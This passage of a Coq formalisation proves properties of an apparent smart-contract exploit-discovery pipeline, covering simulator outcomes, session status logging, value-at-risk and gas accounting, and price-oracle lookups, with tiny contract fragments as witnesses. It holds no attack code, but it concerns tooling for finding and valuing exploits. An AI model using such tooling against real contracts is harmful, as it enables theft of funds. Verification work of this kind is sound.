  (0 <= ForgeService.draw1 random < 1)%Q ->
  (confidence (ForgeService.strategy params) <= 60)%Q ->
  get "success"
    (@ForgeService.simulateExploitTest (Scenario.arith exact) Number_toString params random)
  = JBool false.
Proof.
  intros Hdraw Hweak. unfold ForgeService.simulateExploitTest. cbn [get String.eqb Ascii.eqb Bool.eqb].
  f_equal. apply gt_false.
  destruct (threshold_bounds exact (ForgeService.draw1 random) Hdraw) as [Hlow _].
  eapply Qle_trans; [ | exact Hlow ].
  unfold JsNum.truthy.
  destruct (Qeq_bool (confidence (ForgeService.strategy params)) 0); cbn [negb];
    [ rewrite (whole exact 50) by (simpl; tauto); discriminate | exact Hweak ].
Qed.

(** X14: without forge, a strategy of the categories whose generator
    scales the confidence down -- access control, integer overflow,
    unchecked call -- never passes the simulator, in double precision as
    in exact arithmetic and whatever the draws: when such a strategy is
    the one selected, the ExecutionResult is a failure, the pipeline
    returns and writes nothing, and no discovery is recorded, whatever
    the database does; the session ends completed when the database takes
    the updates of its status to running and to completed. *)
Theorem X14_scaled_strategies_never_pass_the_simulator :
  forall (exact : bool) (world : McpServer.World) (sessionId : string)
         (config : McpServer.Config) (st : McpServer.Storage)
         (best : Strategy) (executionResult : JsObject)
         (vulnerabilities : list Vulnerability) (allStrategies : list Strategy),
    ConcreteExecution.forgeAvailable (McpServer.harness world) = false ->
    (0 <= ForgeService.draw1 (ConcreteExecution.random (McpServer.harness world)) < 1)%Q ->
    @McpServer.executionStage (Scenario.arith exact) world config
    = Ok (ConcreteExecution.Executed best executionResult vulnerabilities allStrategies) ->
    Scan.scaledDown (type best) = true ->
    let st' := @McpServer.startAnalysis (Scenario.arith exact) world sessionId config st in
    (confidence best <= 60)%Q
    /\ get "success" executionResult = JBool false
    /\ (forall st0,
           @McpServer.executeAnalysisPipeline (Scenario.arith exact) world sessionId config st0
           = Ok st0)
    /\ (McpServer.statusAccepts world sessionId "running" = true ->
        McpServer.statusAccepts world sessionId "completed" = true ->
        McpServer.statusOf sessionId st' = Some "completed")
    /\ McpServer.exploitDiscoveries st' = McpServer.exploitDiscoveries st.
Proof.
  intros exact world sessionId config st best executionResult vulnerabilities allStrategies
         Hforge Hdraw Hstage Hscaled st'.
  destruct (executionStage_inv world config _ Hstage) as (sanitizedCode & Hexecute).
  apply execute_ran in Hexecute. destruct Hexecute as (Hresult & Hscan & Hall & Hbest).
  cbn [ConcreteExecution.sourceCode ConcreteExecution.contractAddress ConcreteExecution.chainId
       ConcreteExecution.blockNumber] in Hresult, Hscan.
  rewrite Hall in Hbest. apply strategy_has_finding in Hbest.
  destruct Hbest as (v & Hv & Hgenerated). rewrite Hscan in Hv.
  destruct (scanned_strategy_bounds exact sanitizedCode v best Hv Hgenerated)
    as (_ & _ & Hsixty & _).
  specialize (Hsixty Hscaled).
  assert (Hfailure : get "success" executionResult = JBool false).
  { rewrite Hresult. unfold ConcreteExecution.executeExploitStrategy, ForgeService.testExploit.
    rewrite Hforge. cbn [negb get String.eqb Ascii.eqb Bool.eqb].
    apply simulator_fails_at_60; [ exact Hdraw | exact Hsixty ]. }
  split; [ exact Hsixty | ]. split; [ exact Hfailure | ].
  assert (Hpipeline : forall st0,
             @McpServer.executeAnalysisPipeline (Scenario.arith exact) world sessionId config
               st0 = Ok st0).
  { intros st0. unfold McpServer.executeAnalysisPipeline.
    rewrite Hstage. cbn [bind ConcreteExecution.exploitFound]. rewrite Hfailure.
    reflexivity. }
  split; [ exact Hpipeline | ].
  subst st'. rewrite startAnalysis_storage. cbv zeta. rewrite Hpipeline.
  split.
  - intros -> ->. apply statusOf_update.
  - destruct (McpServer.statusAccepts world sessionId "running"),
      (McpServer.statusAccepts world sessionId "completed"),
      (McpServer.statusAccepts world sessionId "failed"); reflexivity.
Qed.

(** X14 applies: the text ["x += 1;"] has an integer overflow only; its
    strategy has the confidence 30.1, the simulator fails it, and the
    session completes without a discovery. *)
Lemma X14_scaled_strategies_witness :
  let st' := @McpServer.startAnalysis JsNum.Binary64
               (Session.world JsNum.Binary64 "x += 1;" (1 # 10))
               "session-1" Session.config Session.empty in
  McpServer.statusOf "session-1" st' = Some "completed"
  /\ McpServer.exploitDiscoveries st' = [].
Proof.
  assert (Hdraw : (0 <= 1 # 10 < 1)%Q) by (split; unfold Qle, Qlt; simpl; lia).
  destruct (X14_scaled_strategies_never_pass_the_simulator false
              (Session.world JsNum.Binary64 "x += 1;" (1 # 10))
              "session-1" Session.config Session.empty _ _ _ _ eq_refl Hdraw eq_refl eq_refl)
    as (_ & _ & _ & Hstatus & Hnone).
  split; [ exact (Hstatus eq_refl eq_refl) | exact Hnone ].
Defined.

(** X15: with forge installed no value is ever put at risk.  The result
    parsed from a forge run, like the result of a run that failed, carries
    no extracted token, so the normaliser is given an empty list: in any
    arithmetic and whatever forge prints, an analysis leaves the
    discoveries as they were or adds one whose value at risk is zero
    rounded to two decimals, which is 0 in double precision as in exact
    arithmetic. *)
Theorem X15_with_forge_the_value_at_risk_is_zero :
  forall (A : JsNum.Arith) (world : McpServer.World) (sessionId : string)
         (config : McpServer.Config) (st : McpServer.Storage),
    ConcreteExecution.forgeAvailable (McpServer.harness world) = true ->
    let st' := McpServer.startAnalysis world sessionId config st in
    McpServer.exploitDiscoveries st' = McpServer.exploitDiscoveries st
    \/ exists discovery,
         McpServer.exploitDiscoveries st'
         = (McpServer.exploitDiscoveries st ++ [discovery])%list
         /\ McpServer.d_valueAtRisk discovery = JsNum.Number_toFixed 2 (JsNum.lit 0)
         /\ (forall exact, A = Scenario.arith exact -> McpServer.d_valueAtRisk discovery = 0%Q).
Proof.
  intros A world sessionId config st Hforge st'. subst st'.
  destruct (startAnalysis_discoveries world sessionId config st) as [Hsame | Hrecorded];
    [ left; exact Hsame | ].
  destruct Hrecorded as (analysed & Hp & ->).
  apply pipeline_storage in Hp. destruct Hp as [_ [Hsame | Hadded]];
    [ left; exact Hsame | right ].
  destruct Hadded as (discovery & revenue & exploitResult & Hlist & Hstage & Hfound & Hrevenue
                      & Hvalue & _).
  exists discovery. cbn [McpServer.written McpServer.exploitDiscoveries] in *.
  split; [ exact Hlist | ].
  assert (Hzero : McpServer.d_valueAtRisk discovery = JsNum.Number_toFixed 2 (JsNum.lit 0)).
  { rewrite Hvalue.
    destruct (executionStage_inv world config _ Hstage) as (sanitizedCode & Hexecute).
    apply execute_shape in Hexecute.
    destruct Hexecute as [-> | [[vs ->] | (best & vs & ss & ->)]];
      [ discriminate Hfound | discriminate Hfound | ].
    unfold McpServer.revenueStage in Hrevenue.
    cbn [ConcreteExecution.extractedTokens] in Hrevenue.
    rewrite forge_reports_no_token in Hrevenue by exact Hforge.
    cbn [truthyValue] in Hrevenue.
    apply nothing_to_normalise in Hrevenue; [ | reflexivity ].
    exact (proj1 Hrevenue). }
  split; [ exact Hzero | ].
  intros exact ->. rewrite Hzero. destruct exact; reflexivity.
Qed.

(** X15 applies: forge is installed and its test passes on a contract
    with a delegatecall; a discovery is recorded, with the value 0. *)
Lemma X15_with_forge_witness :
  let st' := @McpServer.startAnalysis JsNum.Binary64
               (Pipeline.withForge JsNum.Binary64 "target.delegatecall(data);" Pipeline.passing)
               "session-1" Session.config Session.empty in
  map McpServer.d_exploitType (McpServer.exploitDiscoveries st') = [Some delegateCall]
  /\ map McpServer.d_valueAtRisk (McpServer.exploitDiscoveries st') = [0%Q].
Proof.
  cbv zeta. split; [ vm_compute; reflexivity | ].
  destruct (X15_with_forge_the_value_at_risk_is_zero JsNum.Binary64
              (Pipeline.withForge JsNum.Binary64 "target.delegatecall(data);" Pipeline.passing)
              "session-1" Session.config Session.empty eq_refl) as [Hsame | Hadded].
  - vm_compute in Hsame. discriminate Hsame.
  - destruct Hadded as (discovery & Hlist & _ & Hzero).
    rewrite Hlist. cbn [Session.empty McpServer.exploitDiscoveries app map].
    rewrite (Hzero false eq_refl). reflexivity.
Defined.

(** X16: the pipeline calls the normaliser without the gas used and
    without a gas price, so no gas is ever charged: in the revenue record
    of every session the gas costs are the estimated ones, all zero, and
    the reported net profit is the total of the token values less zero. *)
Theorem X16_the_pipeline_charges_no_gas :
  forall (A : JsNum.Arith) (world : McpServer.World) (config : McpServer.Config)
         (exploitResult : ConcreteExecution.Output) (revenue : RevenueNormalizer.Output),
    McpServer.revenueStage world config exploitResult = Ok revenue ->
    RevenueNormalizer.gasCosts revenue
    = {| RevenueNormalizer.gasUsed := JsNum.lit 0;
         RevenueNormalizer.gasPrice := "0";
         RevenueNormalizer.costETH := JsNum.lit 0;
         RevenueNormalizer.costUSD := JsNum.lit 0;
         RevenueNormalizer.estimated := true |}
    /\ exists tokens,
         ConcreteExecution.extractedTokens exploitResult = JTokens tokens
         /\ RevenueNormalizer.netProfitUSD revenue
            = JsNum.Number_toFixed 2
                (JsNum.sub
                   (RevenueNormalizer.sumUSD
                      (RevenueNormalizer.processTokens (McpServer.priceOracle world)
                         (McpServer.ethers world) (McpServer.chainId config)
                         (McpServer.blockNumber config) tokens))
                   (JsNum.lit 0)).
Proof.
  intros A world config exploitResult revenue H. unfold McpServer.revenueStage in H.
  destruct (ConcreteExecution.extractedTokens exploitResult) as [ | | | | | | tokens ];
    try discriminate H.
  apply execute_record in H. destruct H as (native & gas & _ & _ & Hgas & ->).
  cbn [RevenueNormalizer.arg_gasUsed RevenueNormalizer.arg_gasPrice
       RevenueNormalizer.calculateGasCosts] in Hgas.
  injection Hgas as <-.
  split; [ reflexivity | ]. exists tokens. split; reflexivity.
Qed.

(** X16 applies: the session of the delegatecall scenario, without forge. *)
Lemma X16_the_pipeline_charges_no_gas_witness :
  exists exploitResult revenue,
    @McpServer.executionStage JsNum.Binary64
      (Session.world JsNum.Binary64 "target.delegatecall(data);" (1 # 10)) Session.config
    = Ok exploitResult
    /\ @McpServer.revenueStage JsNum.Binary64
         (Session.world JsNum.Binary64 "target.delegatecall(data);" (1 # 10)) Session.config
         exploitResult = Ok revenue
    /\ RevenueNormalizer.estimated (RevenueNormalizer.gasCosts revenue) = true.
Proof.
  eexists. eexists. split; [ vm_compute; reflexivity | ].
  match goal with
  | |- ?stage = Ok ?revenue /\ _ =>
      assert (H : stage = Ok revenue) by (vm_compute; reflexivity)
  end.
  split; [ exact H | ].
  rewrite (proj1 (X16_the_pipeline_charges_no_gas JsNum.Binary64 _ _ _ _ H)).
  reflexivity.
Defined.

(** X17: the log of a session, with a database that may refuse.
    [startAnalysis] writes the status running, then completed, or failed
    in its [catch], each when the database takes it; the pipeline runs
    only after the status running was taken; the promise resolves
    exactly when the database took running, the pipeline returned and the
    database took completed, and the last status written is then
    completed.  When the pipeline throws, or did not run, the discoveries
    are as they were; when it returned they are those it left, also when
    the status completed is refused and the session ends failed.  In
    every case the discoveries are left alone or extended by one
    discovery, of this session, of the contract and the chain of its
    configuration, and validated, and the status of no other session is
    touched. *)
Theorem X17_session_log :
  forall (A : JsNum.Arith) (world : McpServer.World) (sessionId : string)
         (config : McpServer.Config) (st : McpServer.Storage),
    let st' := McpServer.startAnalysis world sessionId config st in
    let taken := McpServer.statusAccepts world sessionId in
    let failed := if taken "failed" then [ (sessionId, "failed") ] else [] in
    let outcome :=
      McpServer.executeAnalysisPipeline world sessionId config
        (McpServer.written sessionId "running" st) in
    (if taken "running"
     then match outcome with
          | Ok analysed =>
              McpServer.sessionStatus st'
              = ((if taken "completed" then [ (sessionId, "completed") ] else failed)
                 ++ (sessionId, "running") :: McpServer.sessionStatus st)%list
              /\ McpServer.exploitDiscoveries st' = McpServer.exploitDiscoveries analysed
          | Throw _ =>
              McpServer.sessionStatus st'
              = (failed ++ (sessionId, "running") :: McpServer.sessionStatus st)%list
              /\ McpServer.exploitDiscoveries st' = McpServer.exploitDiscoveries st
          end
     else McpServer.sessionStatus st' = (failed ++ McpServer.sessionStatus st)%list
          /\ McpServer.exploitDiscoveries st' = McpServer.exploitDiscoveries st)
    /\ (fst (McpServer.analysis world sessionId config st) = Ok tt
        <-> taken "running" = true /\ (exists analysed, outcome = Ok analysed)
            /\ taken "completed" = true)
    /\ (fst (McpServer.analysis world sessionId config st) = Ok tt ->
        McpServer.statusOf sessionId st' = Some "completed")
    /\ (McpServer.exploitDiscoveries st' = McpServer.exploitDiscoveries st
        \/ exists discovery,
             McpServer.exploitDiscoveries st'
             = (McpServer.exploitDiscoveries st ++ [discovery])%list
             /\ McpServer.d_sessionId discovery = sessionId
             /\ McpServer.d_contractAddress discovery = McpServer.contractAddress config
             /\ McpServer.d_chainId discovery = McpServer.chainId config
             /\ McpServer.d_validated discovery = true)
    /\ (forall other, other <> sessionId ->
                      McpServer.statusOf other st' = McpServer.statusOf other st).
Proof.
  intros A world sessionId config st st' taken failed outcome.
  assert (Hsettled : fst (McpServer.analysis world sessionId config st) = Ok tt
                     <-> taken "running" = true /\ (exists analysed, outcome = Ok analysed)
                         /\ taken "completed" = true).
  { unfold McpServer.analysis, McpServer.failAnalysis, McpServer.updateMcpSession.
    fold taken. destruct (taken "running"); [ fold outcome | ].
    - destruct outcome as [analysed | message].
      + destruct (taken "completed"); cbn [fst].
        * split; [ intros _; repeat split; eauto | reflexivity ].
        * destruct (taken "failed"); cbn [fst];
            (split; [ discriminate | intros (_ & _ & H); discriminate H ]).
      + destruct (taken "failed"); cbn [fst];
          (split; [ discriminate | intros (_ & (analysed & H) & _); discriminate H ]).
    - destruct (taken "failed"); cbn [fst];
        (split; [ discriminate | intros (H & _); discriminate H ]). }
  assert (Hstorage := startAnalysis_storage world sessionId config st).
  cbv zeta in Hstorage. fold st' taken outcome in Hstorage.
  assert (Hother : forall status st0 other, other <> sessionId ->
             McpServer.statusOf other
               (if taken status then McpServer.written sessionId status st0 else st0)
             = McpServer.statusOf other st0).
  { intros status st0 other Hne. destruct (taken status); [ | reflexivity ].
    apply statusOf_other. exact Hne. }
  split; [ | split; [ exact Hsettled | split ] ].
  - destruct (taken "running").
    + destruct outcome as [analysed | message] eqn:Hp.
      * apply pipeline_status in Hp. rewrite Hstorage. unfold failed.
        destruct (taken "completed"); [ | destruct (taken "failed") ];
          cbn [McpServer.written McpServer.sessionStatus McpServer.exploitDiscoveries app];
          rewrite ?Hp; split; reflexivity.
      * rewrite Hstorage. unfold failed. destruct (taken "failed"); split; reflexivity.
    + rewrite Hstorage. unfold failed. destruct (taken "failed"); split; reflexivity.
  - intros Hok. apply Hsettled in Hok. destruct Hok as (Hr & (analysed & Hp) & Hc).
    rewrite Hstorage, Hr, Hp, Hc. apply statusOf_update.
  - split.
    + destruct (startAnalysis_discoveries world sessionId config st) as [Hsame | Hrecorded];
        [ left; exact Hsame | ].
      destruct Hrecorded as (analysed & Hp & Hlist). fold st' in Hlist. rewrite Hlist.
      apply pipeline_storage in Hp.
      destruct Hp as [_ [Hsame | (discovery & revenue & exploitResult & Hadded & _ & _ & _
                                   & _ & Hsession & Haddress & Hchain & Hvalidated)]];
        [ left; exact Hsame | right ].
      exists discovery. repeat split; assumption.
    + intros other Hne. rewrite Hstorage.
      destruct (taken "running") eqn:Hr.
      * destruct outcome as [analysed | message] eqn:Hp.
        -- assert (Hsame : McpServer.statusOf other analysed = McpServer.statusOf other st).
           { apply pipeline_status in Hp. unfold McpServer.statusOf at 1. rewrite Hp.
             exact (statusOf_other sessionId other "running" st Hne). }
           destruct (taken "completed") eqn:Hc.
           ++ rewrite statusOf_other by exact Hne. exact Hsame.
           ++ rewrite (Hother "failed") by exact Hne. exact Hsame.
        -- rewrite (Hother "failed") by exact Hne. apply statusOf_other. exact Hne.
      * apply (Hother "failed"). exact Hne.
Qed.

(** X17 in a case: the source holds one delegatecall and the simulator
    lets its strategy succeed, so that the pipeline records a discovery;
    the database then refuses the status completed, and the session ends
    failed with its discovery recorded. *)
Lemma X17_session_log_witness :
  let world :=
    Pipeline.refusing "completed"
      (Session.world JsNum.Binary64 "target.delegatecall(data);" (1 # 10)) in
  let st' := @McpServer.startAnalysis JsNum.Binary64 world "session-1" Session.config
               Session.empty in
  McpServer.sessionStatus st' = [ ("session-1", "failed"); ("session-1", "running") ]
  /\ map McpServer.d_exploitType (McpServer.exploitDiscoveries st') = [ Some delegateCall ]
  /\ fst (@McpServer.analysis JsNum.Binary64 world "session-1" Session.config Session.empty)
     <> Ok tt.
Proof.
  cbv zeta.
  pose proof (X17_session_log JsNum.Binary64
                (Pipeline.refusing "completed"
                   (Session.world JsNum.Binary64 "target.delegatecall(data);" (1 # 10)))
                "session-1" Session.config Session.empty) as H.
  cbv zeta in H. destruct H as (_ & Hsettled & _).
  split; [ vm_compute; reflexivity | ]. split; [ vm_compute; reflexivity | ].
  intros Hok. apply Hsettled in Hok. destruct Hok as (_ & _ & Hcompleted).
  discriminate Hcompleted.
Defined.

(* ================================================================== *)
(** ** The price oracle *)
(* ================================================================== *)

Section RoundingSize.

Import JsNum.
Import Rounding.
Local Open Scope Q_scope.

(** The nearest integer of a number that is not negative is at most its
    double. *)
Lemma roundHalfEven_twice (t : Q) : 0 <= t -> inject_Z (roundHalfEven t) <= 2 * t.
Proof.
  intros Ht. pose proof (Qfloor_le t) as Hl.
  assert (Hf : (0 <= Qfloor t)%Z).
  { apply Qfloor_resp_le in Ht. exact Ht. }
  unfold roundHalfEven.
  assert (Hup : (1 <= Qfloor t)%Z -> inject_Z (Qfloor t + 1) <= 2 * t).
  { intros H1. rewrite inject_Z_plus. rewrite Zle_Qle in H1. lra. }
  assert (Hzero : Qfloor t = 0%Z \/ (1 <= Qfloor t)%Z) by lia.
  destruct (t - inject_Z (Qfloor t) ?= 1 # 2) eqn:E.
  - apply Qeq_alt in E. destruct Hzero as [H0 | H1].
    + rewrite H0. change (0 <= 2 * t). lra.
    + destruct (Z.even (Qfloor t)); [ lra | auto ].
  - lra.
  - apply Qgt_alt in E. destruct Hzero as [H0 | H1]; [ | auto ].
    rewrite H0 in *. change (1 <= 2 * t). change (inject_Z 0) with 0 in E. lra.
Qed.

Lemma nearest_twice (q : Q) : 0 < q -> nearest q <= 2 * q.
Proof.
  intros Hq. unfold nearest. pose proof (pow2_pos (exponentOf q)) as Hp.
  set (p := pow2 (exponentOf q)) in *.
  assert (Ht : 0 <= q / p).
  { apply Qlt_le_weak. unfold Qdiv. apply Qmult_lt_0_compat; [ exact Hq | ].
    apply Qinv_lt_0_compat. exact Hp. }
  pose proof (roundHalfEven_twice _ Ht) as H.
  apply (Qle_trans _ (2 * (q / p) * p)).
  - apply Qmult_le_compat_r; [ exact H | apply Qlt_le_weak; exact Hp ].
  - apply Qle_lteq. right. field. intros H0. rewrite H0 in Hp. exact (Qlt_irrefl _ Hp).
Qed.

End RoundingSize.

(** In either arithmetic, rounding keeps the sign and at most doubles
    the size. *)
Lemma rnd_size (exact : bool) (x : Q) :
  ((0 <= x -> 0 <= @JsNum.rnd (Scenario.arith exact) x <= 2 * x)
   /\ (x <= 0 -> 2 * x <= @JsNum.rnd (Scenario.arith exact) x <= 0))%Q.
Proof.
  destruct exact; cbn [Scenario.arith JsNum.rnd JsNum.Exact JsNum.Binary64].
  - rewrite !Qred_correct. split; intros H; lra.
  - split; intros H.
    + destruct (Qlt_le_dec 0 x) as [Hpos | Hle].
      * rewrite (round64_positive x Hpos).
        pose proof (nearest_nonneg x Hpos). pose proof (nearest_twice x Hpos). lra.
      * rewrite (round64_zero x) by lra. lra.
    + destruct (Qlt_le_dec x 0) as [Hneg | Hle].
      * rewrite (round64_negative x Hneg).
        pose proof (nearest_nonneg (- x) ltac:(lra)).
        pose proof (nearest_twice (- x) ltac:(lra)). lra.
      * rewrite (round64_zero x) by lra. lra.
Qed.

Section Oracle.

Import JsNum.
Import PriceOracleMethods.

(** A text in lower case is its own lower case. *)
Lemma toLowerCase_idempotent (text : string) :
  Text.toLowerCase (Text.toLowerCase text) = Text.toLowerCase text.
Proof.
  unfold Text.toLowerCase. rewrite list_ascii_of_string_of_list_ascii, map_map.
  f_equal. apply map_ext. intros c. apply lower_idempotent.
Qed.

(** A key with a capital letter is the lower case of no text. *)
Lemma lookup_lowered (text : string) (entries : list (string * string)) :
  Forall (fun entry => Text.toLowerCase (fst entry) <> fst entry) entries ->
  lookup (Text.toLowerCase text) entries = None.
Proof.
  induction 1 as [ | [k v] entries Hk _ IH ]; [ reflexivity | ].
  cbn [lookup]. destruct (String.eqb k (Text.toLowerCase text)) eqn:E; [ | exact IH ].
  apply String.eqb_eq in E. exfalso. apply Hk. cbn [fst].
  rewrite E. apply toLowerCase_idempotent.
Qed.

(** The addresses of [tokenFeeds] are written with capital letters. *)
Lemma tokenFeeds_capitals (chainId : Z) (entries : list (string * string)) :
  tokenFeeds chainId = Some entries ->
  Forall (fun entry => Text.toLowerCase (fst entry) <> fst entry) entries.
Proof.
  unfold tokenFeeds. destruct (chainId =? 1)%Z; [ | discriminate ].
  intros H. injection H as <-. repeat constructor; intros H; vm_compute in H; discriminate H.
Qed.

Lemma tokenFeeds_lowered (text : string) (chainId : Z) (entries : list (string * string)) :
  tokenFeeds chainId = Some entries ->
  property (Text.toLowerCase text) entries
  = if existsb (String.eqb (Text.toLowerCase text)) inheritedKeys then Inherited else Absent.
Proof.
  intros H. unfold property.
  rewrite (lookup_lowered text entries (tokenFeeds_capitals chainId entries H)). reflexivity.
Qed.

End Oracle.

(** X18: [getTokenPriceFromChainlink] resolves for no token: the addresses
    of its table are written with capital letters and the address looked
    up is in lower case, so that the call throws 'No Chainlink feed for
    token', or 'Feed address not found' on chain 1 for a text that names a
    property of every object; no price feed is read. *)
Theorem X18_no_token_has_a_chainlink_feed :
  forall (A : JsNum.Arith) (Number_toString : Q -> string) (hasProvider : Z -> bool)
         (latestRoundData : string -> option string -> Result Z)
         (tokenAddress : string) (chainId : Z) (blockNumber : option string),
    @PriceOracleMethods.getTokenPriceFromChainlink A Number_toString hasProvider
      latestRoundData tokenAddress chainId blockNumber
    = Throw (if (chainId =? 1)%Z
                && existsb (String.eqb (Text.toLowerCase tokenAddress))
                     PriceOracleMethods.inheritedKeys
             then "Feed address not found"
             else "No Chainlink feed for token").
Proof.
  intros A Number_toString hasProvider latestRoundData tokenAddress chainId blockNumber.
  unfold PriceOracleMethods.getTokenPriceFromChainlink.
  destruct (PriceOracleMethods.tokenFeeds chainId) as [ entries | ] eqn:E.
  - rewrite (tokenFeeds_lowered tokenAddress chainId entries E).
    assert (H1 : (chainId =? 1)%Z = true).
    { unfold PriceOracleMethods.tokenFeeds in E. destruct (chainId =? 1)%Z; congruence. }
    rewrite H1. cbn [andb].
    destruct (existsb _ _); reflexivity.
  - assert (H1 : (chainId =? 1)%Z = false).
    { unfold PriceOracleMethods.tokenFeeds in E. destruct (chainId =? 1)%Z; congruence. }
    rewrite H1. reflexivity.
Qed.

(** X19: the price of the native token.  On the chains 1, 56 and 137 it is
    the answer of the feed ETH/USD, BNB/USD or MATIC/USD over 10^8 when
    the chain has a provider and the feed answers, and 3000, 300 or 0.8
    otherwise; on every other chain it is 3000, and no feed is read. *)
Theorem X19_native_token_price :
  forall (exact : bool) (Number_toString : Q -> string) (hasProvider : Z -> bool)
         (latestRoundData : string -> option string -> Result Z)
         (chainId : Z) (blockNumber : option string),
    let price :=
      @PriceOracleMethods.getNativeTokenPrice (Scenario.arith exact) Number_toString
        hasProvider latestRoundData chainId blockNumber in
    let approximate : Q :=
      if (chainId =? 56)%Z then 300%Q
      else if (chainId =? 137)%Z then @JsNum.lit (Scenario.arith exact) (8 # 10)
      else 3000%Q in
    let feedAddress :=
      if (chainId =? 1)%Z then "0x5f4eC3Df9cbd43714FE2740f5E3616155c5b8419"
      else if (chainId =? 56)%Z then "0x0567F2323251f0Aab15c8dFb1967E4e8A7D42aeE"
      else "0xAB594600376Ec9fD91F8e885dADF0CE036862dE0" in
    if ((chainId =? 1) || (chainId =? 56) || (chainId =? 137))%Z
    then
      if hasProvider chainId
      then match latestRoundData feedAddress blockNumber with
           | Ok answer => price = @PriceOracleMethods.fromUnits (Scenario.arith exact) answer 8
           | Throw _ => price = approximate
           end
      else price = approximate
    else price = 3000%Q.
Proof.
  intros exact Number_toString hasProvider latestRoundData chainId blockNumber.
  cbv zeta.
  unfold PriceOracleMethods.getNativeTokenPrice, PriceOracleMethods.nativeTokenPrice,
    PriceOracleMethods.chainlinkFeeds, PriceOracleMethods.fallbackPrices.
  destruct (Z.eqb_spec chainId 1) as [-> | N1];
    [ | destruct (Z.eqb_spec chainId 56) as [-> | N56];
        [ | destruct (Z.eqb_spec chainId 137) as [-> | N137] ] ].
  4: { cbn [orb].
       destruct (chainId =? 42161)%Z; [ | destruct (chainId =? 10)%Z ];
         destruct exact; reflexivity. }
  all: cbn [orb Z.eqb Pos.eqb PriceOracleMethods.lookup String.eqb Ascii.eqb Bool.eqb];
    unfold PriceOracleMethods.getChainlinkPrice, PriceOracleMethods.getProvider;
    destruct (hasProvider _); cbn [bind];
    [ destruct (latestRoundData _ blockNumber); cbn [bind] | ];
    try reflexivity; destruct exact; reflexivity.
Qed.

Section Quotes.

Import JsNum.
Import PriceOracleMethods.
Local Open Scope Q_scope.

Variable exact : bool.
Variable Number_toString : Q -> string.
Variable hasProvider : Z -> bool.

(** The first lookup of [getTokenPrice] leaves its state as it began. *)
Lemma afterChainlink_start (latestRoundData : string -> option string -> Result Z)
  (tokenAddress : string) (chainId : Z) (blockNumber : option string) :
  @afterChainlink (Scenario.arith exact)
    (@getTokenPriceFromChainlink (Scenario.arith exact) Number_toString hasProvider latestRoundData tokenAddress
       chainId blockNumber)
  = {| p_priceUSD := 0; p_liquidityUSD := 0; p_priceImpact := Finite 0;
       p_sources := []; p_confidence := 0 |}.
Proof.
  assert (H : exists message,
             @getTokenPriceFromChainlink (Scenario.arith exact) Number_toString hasProvider latestRoundData
               tokenAddress chainId blockNumber = Throw message).
  { unfold getTokenPriceFromChainlink.
    destruct (tokenFeeds chainId) as [ entries | ] eqn:E; [ | eauto ].
    rewrite (tokenFeeds_lowered tokenAddress chainId entries E).
    destruct (existsb _ _); eauto. }
  destruct H as [message ->]. unfold afterChainlink. destruct exact; reflexivity.
Qed.

(** Without a price there is nothing to conclude. *)
Lemma conclude_start (nativeFeed : string -> option string -> Result Z) (chainId : Z)
  (blockNumber : option string) :
  @conclude (Scenario.arith exact) Number_toString hasProvider
    {| p_priceUSD := 0; p_liquidityUSD := 0; p_priceImpact := Finite 0;
       p_sources := []; p_confidence := 0 |} nativeFeed chainId blockNumber
  = unpriced.
Proof. unfold conclude, unpriced. destruct exact; reflexivity. Qed.

(** The literals of the oracle. *)
Lemma lit_zero : @lit (Scenario.arith exact) 0 = 0.
Proof. destruct exact; reflexivity. Qed.

Lemma lit_million : @lit (Scenario.arith exact) 1000000 = 1000000.
Proof. destruct exact; reflexivity. Qed.

Lemma lit_cent :
  0 < @lit (Scenario.arith exact) (1 # 100)
  /\ 4 * @lit (Scenario.arith exact) (1 # 100) < 5 # 100
  /\ 4 * @lit (Scenario.arith exact) (1 # 100) < @lit (Scenario.arith exact) (5 # 100)
  /\ 4 * @lit (Scenario.arith exact) (1 # 100) < @lit (Scenario.arith exact) (1 # 10).
Proof. destruct exact; vm_compute; repeat split; reflexivity. Qed.

(** One hundredth of an amount, over the amount. *)
Lemma ratio_bounds (amount : Q) :
  ~ amount == 0 ->
  0 <= @div (Scenario.arith exact) (@mul (Scenario.arith exact) amount (@lit (Scenario.arith exact) (1 # 100))) amount
  /\ @div (Scenario.arith exact) (@mul (Scenario.arith exact) amount (@lit (Scenario.arith exact) (1 # 100))) amount <= 4 * @lit (Scenario.arith exact) (1 # 100).
Proof.
  intros Hne. destruct lit_cent as [Hc _].
  set (c := @lit (Scenario.arith exact) (1 # 100)) in *. unfold div, mul.
  set (part := @rnd (Scenario.arith exact) (amount * c)).
  assert (Hq : part / amount * amount == part) by (field; exact Hne).
  assert (Hr : 0 <= part / amount /\ part / amount <= 2 * c).
  { destruct (Q_dec amount 0) as [[Hneg | Hpos] | Hz]; [ | | contradiction ].
    - destruct (proj2 (rnd_size exact (amount * c)) ltac:(nra)) as [Hlo Hhi].
      fold part in Hlo, Hhi. split; nra.
    - destruct (proj1 (rnd_size exact (amount * c)) ltac:(nra)) as [Hlo Hhi].
      fold part in Hlo, Hhi. split; nra. }
  destruct Hr as [Hr0 Hr2].
  destruct (proj1 (rnd_size exact (part / amount)) Hr0) as [Hlo Hhi].
  split; lra.
Qed.

Lemma ratio_exact (amount : Q) :
  exact = true -> ~ amount == 0 ->
  @div (Scenario.arith exact) (@mul (Scenario.arith exact) amount (@lit (Scenario.arith exact) (1 # 100))) amount == 1 # 100.
Proof.
  intros -> Hne. unfold div, mul, lit. cbn [Scenario.arith rnd Exact].
  rewrite !Qred_correct. field. exact Hne.
Qed.

End Quotes.

(** X20: the quote of [getTokenPrice].  The price is the one of the DEX,
    the only source, when the DEX resolves with a price above zero: the
    confidence is then 60 when the liquidity is above 1000000 and 50
    otherwise; in every other case the quote is zero throughout, with no
    source and the confidence 0.  The source 'Chainlink', the mean of two
    prices and a confidence above 60 never occur. *)
Theorem X20_the_quote_is_the_price_of_the_dex :
  forall (exact : bool) (Number_toString : Q -> string) (hasProvider : Z -> bool)
         (tokenFeed dexNativeFeed nativeFeed : string -> option string -> Result Z)
         (dex : PriceOracleMethods.Dex) (tokenAddress : string) (chainId : Z)
         (blockNumber : option string),
    let quote :=
      @PriceOracleMethods.getTokenPrice (Scenario.arith exact) Number_toString hasProvider
        tokenFeed dexNativeFeed nativeFeed dex tokenAddress chainId blockNumber in
    match @PriceOracleMethods.getTokenPriceFromDEX (Scenario.arith exact) Number_toString
            hasProvider dex dexNativeFeed tokenAddress chainId blockNumber with
    | Ok price =>
        if JsNum.gt (PriceOracleMethods.dexPriceUSD price) 0
        then quote
             = {| PriceOracleMethods.priceUSD := PriceOracleMethods.dexPriceUSD price;
